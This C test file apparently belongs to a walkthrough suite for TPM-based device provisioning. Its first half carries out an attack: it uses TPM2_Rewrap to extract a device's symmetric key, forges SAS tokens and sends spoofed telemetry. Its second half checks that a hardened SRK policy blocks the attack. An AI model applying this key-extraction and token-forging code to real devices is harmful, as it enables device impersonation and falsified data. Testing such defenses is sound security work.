/* SPDX-License-Identifier: MIT */
/* Software as root, after a registration, with one command that the flow does not have: TPM2_Rewrap [P3 r1.59 13.2].
 * First with the standard SRK, then with the hardened one (spec-notes.md, "Which SRK may be trusted"). */
#include "dps/protocol/sas.h"
#include "dps/protocol/text.h"
#include "tests/walkthrough/walkthrough.h"
#include "tpm/command.h"
#include "tpm/tools/command_more.h"
#include "tpm/tools/open.h"
#include <string.h>

#define REGISTRATION "registration"
#define HUB_NAME "hub-a.example"
#define EXPIRY (FLOW_NOW + 3600)

static uint8_t buffer[DPS_TPM_BUFFER];
static uint8_t response[DPS_TPM_BUFFER];

static const uint8_t import_branch[] = TPM2_POLICY_IMPORT_SHA256, load_branch[] = TPM2_POLICY_LOAD_SHA256;

static struct bytes_writer command(void)
{
    return bytes_writer_over(buffer, sizeof buffer);
}

static struct tpm2_auth no_password(void)
{
    return tpm2_auth_password(bytes_of(NULL, 0));
}

/* ---- What TPM2_Rewrap gives, and what one can do with it --------------------------------------------------------- */

static void look_for_rewrap(struct walk *k)
{
    uint32_t rc, capability;
    bool more;
    struct bytes data;
    struct bytes_writer w = command();
    k->what = "whether it has TPM2_Rewrap";
    tpm2_get_capability_build(&w, TPM2_CAP_COMMANDS, TPM2_CC_REWRAP, 1);
    walk_must(tpm2_get_capability_parse(walk_ask(k, &w, response), &rc, &more, &capability, &data) == 0,
              "GetCapability fails");
    struct bytes_reader r = bytes_reader_over(data);
    (void)bytes_read_u32(&r); /* count */
    walk_must((bytes_read_u32(&r) & 0xFFFF) == TPM2_CC_REWRAP && r.error == 0,
              "this TPM has no TPM2_Rewrap, so there is no such chapter");
}

/* To TPM_RH_NULL: the outer wrap comes off, and none is put on. *rc is 0 if it works; duplicate views response. */
static void rewrap(struct walk *k, const struct walk_challenge *c, const struct tpm2_auth *auth, uint32_t *rc,
                   struct bytes *duplicate)
{
    struct dps_activation parts;
    uint8_t name[TPM2_NAME_SIZE];
    struct bytes secret;
    walk_must(dps_activation_parse(bytes_of(c->blob, c->len), &parts) == 0, "the blob has no form");
    tpm2_name_of(parts.key_public_2b, name);
    struct bytes_writer w = command();
    tpm2_rewrap_build(&w, c->srk, TPM2_RH_NULL, auth, parts.duplicate, bytes_of(name, sizeof name),
                      parts.duplicate_secret);
    const int error = tpm2_rewrap_parse(walk_ask(k, &w, response), rc, duplicate, &secret);
    walk_must(error == 0 || error == BYTES_E_TPM_RC, "TPM2_Rewrap has no answer");
}

/* The whole attack on one blob: inner key, TPM2_Rewrap, and the rest in software. */
static void take_key(struct walk *k, const struct walk_challenge *c, const uint8_t inner_key[16],
                     uint8_t key[DPS_KEY_SIZE])
{
    struct dps_activation parts;
    struct tpm2_sensitive sensitive;
    uint8_t storage[256];
    uint8_t name[TPM2_NAME_SIZE];
    uint32_t rc;
    struct bytes duplicate;
    const struct tpm2_auth auth = no_password();
    rewrap(k, c, &auth, &rc, &duplicate);
    walk_must(rc == 0, "TPM2_Rewrap is refused");
    walk_must(dps_activation_parse(bytes_of(c->blob, c->len), &parts) == 0, "the blob has no form");
    tpm2_name_of(parts.key_public_2b, name);
    walk_must(tpm2_duplicate_open_inner(duplicate, bytes_of(inner_key, 16), bytes_of(name, sizeof name),
                                        &sensitive, storage, sizeof storage) == 0 &&
                  sensitive.key.len == DPS_KEY_SIZE,
              "the inner wrap does not open");
    memcpy(key, sensitive.key.p, DPS_KEY_SIZE);
}

/* A token that no TPM has signed. */
static void write_token(char *out, size_t size, const char *audience, const uint8_t key[DPS_KEY_SIZE],
                        const char *key_name)
{
    uint8_t text[256];
    uint8_t signature[32];
    struct bytes_writer to_sign = bytes_writer_over(text, sizeof text);
    struct bytes_writer w = bytes_writer_over((uint8_t *)out, size - 1);
    dps_sas_write_string_to_sign(&to_sign, bytes_of_text(audience), EXPIRY);
    const struct bytes signed_text = bytes_written(&to_sign);
    crypto_hmac_sha256(bytes_of(key, DPS_KEY_SIZE), &signed_text, 1, signature);
    dps_sas_write_token(&w, bytes_of_text(audience), signature, EXPIRY, bytes_of_text(key_name));
    walk_must(to_sign.error == 0 && w.error == 0, "a token is too long");
    out[w.len] = '\0';
}

static void write_poll(struct walk *k, const char *token)
{
    const char member[] = "\"operationId\":\"";
    uint8_t request[1024];
    struct bytes_writer w = bytes_writer_over(request, sizeof request);
    const uint8_t *at = memmem(k->flow.response, k->flow.response_len, member, sizeof member - 1);
    at = at != NULL ? at + sizeof member - 1 : k->flow.response;
    const uint8_t *end = memchr(at, '"', k->flow.response_len - (size_t)(at - k->flow.response));
    walk_must(at != k->flow.response && end != NULL, "no operation");
    dps_write_text(&w, "GET /" FLOW_SCOPE "/registrations/" WALK_ID "/operations/");
    bytes_write_bytes(&w, bytes_of(at, (size_t)(end - at)));
    dps_write_text(&w, "?api-version=2021-06-01 HTTP/1.1\r\nHost: " FLOW_HOST "\r\nAuthorization: ");
    dps_write_text(&w, token);
    dps_write_text(&w, "\r\n\r\n");
    walk_must(w.error == 0, "a request is too long");
    walk_request(k, request, w.len);
}

static void write_telemetry(struct walk *k, const char *token)
{
    uint8_t request[1024];
    struct bytes_writer w = bytes_writer_over(request, sizeof request);
    dps_write_text(&w, "POST /devices/" WALK_ID "/messages/events?api-version=2021-06-01 HTTP/1.1\r\n"
                       "Host: " HUB_NAME "\r\nAuthorization: ");
    dps_write_text(&w, token);
    dps_write_text(&w, "\r\nContent-Type: application/octet-stream\r\nContent-Length: 19\r\n\r\n"
                       "{\"temperature\":999}");
    walk_must(w.error == 0, "a request is too long");
    walk_request(k, request, w.len);
}

/* ---- The standard SRK -------------------------------------------------------------------------------------------- */

static void standard(struct walk *k, char *hub_token, size_t hub_token_size)
{
    struct walk_challenge c;
    uint8_t inner_key[16], key[DPS_KEY_SIZE];
    uint8_t request[4096];
    char token[512];
    const struct bytes ek = bytes_of(k->ek, k->ek_len), srk = bytes_of(k->srk, k->srk_len);
    walk_scene("rewrap");
    k->step = 7;
    look_for_rewrap(k);
    walk_get_challenge(k, &c, TPM2_HANDLE_SRK, srk);
    k->what = "the inner key, as the device gets it";
    walk_activate(k, &c, true, inner_key);
    k->what = "the nonce without its outer wrap";
    take_key(k, &c, inner_key, key);

    k->step = 8;
    k->what = "provisioning, with a token signed by software";
    write_token(token, sizeof token, FLOW_SCOPE "%2Fregistrations%2F" WALK_ID, key, REGISTRATION);
    walk_request(k, request, walk_write_registration(request, sizeof request, ek, srk, token));
    walk_must(k->flow.answer.status == 202, "the attacker's token is refused");
    k->step = 9;
    k->what = "the hub, and its device key";
    write_poll(k, token);
    c.len = walk_blob(k, c.blob, sizeof c.blob);
    walk_must(c.len > 0, "no hub key");
    k->what = "the other inner key";
    walk_activate(k, &c, true, inner_key);
    k->what = "the hub's device key without its outer wrap";
    take_key(k, &c, inner_key, key);

    k->step = 10;
    k->what = "telemetry from a machine without a TPM";
    write_token(hub_token, hub_token_size, HUB_NAME "%2Fdevices%2F" WALK_ID, key, "");
    write_telemetry(k, hub_token);
    walk_must(k->flow.answer.status == 204, "the hub refuses the attacker");
}

/* ---- The hardened SRK -------------------------------------------------------------------------------------------- */

static uint32_t start_session(struct walk *k)
{
    uint32_t rc, session;
    struct bytes nonce;
    struct bytes_writer w = command();
    k->quiet = true;
    tpm2_start_auth_session_build(&w, TPM2_SE_POLICY, bytes_of(flow_nonce, 32));
    walk_must(tpm2_start_auth_session_parse(walk_ask(k, &w, response), &rc, &session, &nonce) == 0,
              "no session");
    k->quiet = false;
    return session;
}

static void policy_command_code(struct walk *k, uint32_t session, uint32_t code, const char *what)
{
    uint32_t rc;
    struct bytes_writer w = command();
    k->what = what;
    tpm2_policy_command_code_build(&w, session, code);
    walk_must(tpm2_policy_command_code_parse(walk_ask(k, &w, response), &rc) == 0, "no PolicyCommandCode");
}

static uint32_t policy_or(struct walk *k, uint32_t session, const char *what)
{
    uint32_t rc;
    const struct bytes branches[] = {bytes_of(import_branch, sizeof import_branch),
                                     bytes_of(load_branch, sizeof load_branch)};
    struct bytes_writer w = command();
    k->what = what;
    tpm2_policy_or_build(&w, session, branches, 2);
    (void)tpm2_policy_or_parse(walk_ask(k, &w, response), &rc);
    return rc;
}

static void import(struct walk *k, const struct walk_challenge *c, const struct tpm2_auth *auth,
                   const uint8_t inner_key[16])
{
    struct dps_activation parts;
    uint32_t rc;
    struct bytes private_2b;
    walk_must(dps_activation_parse(bytes_of(c->blob, c->len), &parts) == 0, "the blob has no form");
    struct bytes_writer w = command();
    tpm2_import_build(&w, c->srk, auth, bytes_of(inner_key, 16), parts.key_public_2b, parts.duplicate,
                      parts.duplicate_secret);
    k->what = "to import the nonce, which the policy allows";
    walk_must(tpm2_import_parse(walk_ask(k, &w, response), &rc, &private_2b) == 0, "Import is refused");
}

/* Everything that could authorize TPM2_Rewrap. */
static void try_all(struct walk *k, const struct walk_challenge *c, const uint8_t inner_key[16])
{
    uint32_t rc;
    struct bytes duplicate;
    struct tpm2_auth auth = no_password();
    k->what = "Rewrap with the empty password";
    rewrap(k, c, &auth, &rc, &duplicate);
    walk_must(rc == TPM2_RC_AUTH_UNAVAILABLE, "Rewrap by password ends otherwise than it should");

    uint32_t session = start_session(k);
    auth = tpm2_auth_policy(session, true);
    policy_command_code(k, session, TPM2_CC_IMPORT, "a policy for Import");
    walk_must(policy_or(k, session, "that this is one of the two that the SRK names") == 0, "no PolicyOR");
    k->what = "Rewrap with the policy for Import";
    rewrap(k, c, &auth, &rc, &duplicate);
    walk_must((rc & 0xBF) == TPM2_RC_POLICY_CC, "Rewrap with Import's policy ends otherwise than it should");
    import(k, c, &auth, inner_key);
    walk_flush(k, session);

    session = start_session(k);
    auth = tpm2_auth_policy(session, true);
    policy_command_code(k, session, TPM2_CC_REWRAP, "a policy for Rewrap itself");
    walk_must(policy_or(k, session, "that this is one of the two, which it is not") != 0,
              "PolicyOR takes a branch that is not there");
    k->what = "Rewrap with the policy for Rewrap";
    rewrap(k, c, &auth, &rc, &duplicate);
    walk_must((rc & 0xBF) == TPM2_RC_POLICY_FAIL, "Rewrap with a policy of its own does not fail");
    walk_flush(k, session);
}

static void hardened(struct walk *k, const char *hub_token)
{
    struct flow *f = &k->flow;
    struct walk_challenge c;
    uint8_t inner_key[16];
    uint8_t request[4096];
    uint8_t srk[DPS_SRK_PUBLIC_MAX];
    uint32_t rc, handle;
    struct bytes public_2b, name;
    const struct tpm2_auth owner = tpm2_auth_password(f->config.owner_auth);
    const struct tpm2_public area = tpm2_template_srk_hardened();
    walk_scene("rewrap-hardened");
    struct bytes_writer w = command();
    k->step = 3;
    k->what = "the hardened SRK";
    tpm2_create_primary_build(&w, TPM2_RH_OWNER, &owner, &area);
    walk_must(tpm2_create_primary_parse(walk_ask(k, &w, response), &rc, &handle, &public_2b, &name) == 0 &&
                  public_2b.len <= sizeof srk,
              "no hardened SRK");
    const size_t srk_len = public_2b.len;
    memcpy(srk, public_2b.p, srk_len);
    k->step = 7;
    walk_get_challenge(k, &c, handle, bytes_of(srk, srk_len));
    k->quiet = true;
    walk_activate(k, &c, true, inner_key);
    k->quiet = false;
    try_all(k, &c, inner_key);
    walk_flush(k, handle);

    /* The other half of the answer: an attacker who may choose takes the standard SRK. */
    f->service_config.hardened_srk = true;
    k->step = 4;
    k->what = "provisioning, with the standard SRK where the hardened one is demanded";
    walk_request(k, request,
                 walk_write_registration(request, sizeof request, bytes_of(k->ek, k->ek_len),
                                         bytes_of(k->srk, k->srk_len), NULL));
    walk_must(f->answer.refusal == DPS_REFUSED_SRK_STANDARD, "the standard SRK is not refused");
    k->quiet = true;
    k->what = NULL;
    f->config.srk = DPS_SRK_HARDENED;
    walk_must(flow_register(f) == 0, "the device cannot register with the hardened SRK");
    k->quiet = false;
    k->step = 10;
    k->what = "telemetry with the key that was stolen before";
    write_telemetry(k, hub_token);
    walk_must(f->answer.refusal == DPS_REFUSED_HUB_TOKEN, "the stolen key still works");
    f->config.srk = DPS_SRK_STANDARD;
    f->service_config.hardened_srk = false;
}

void walk_one_command_too_many(struct walk *k)
{
    char hub_token[512];
    standard(k, hub_token, sizeof hub_token);
    hardened(k, hub_token);
}
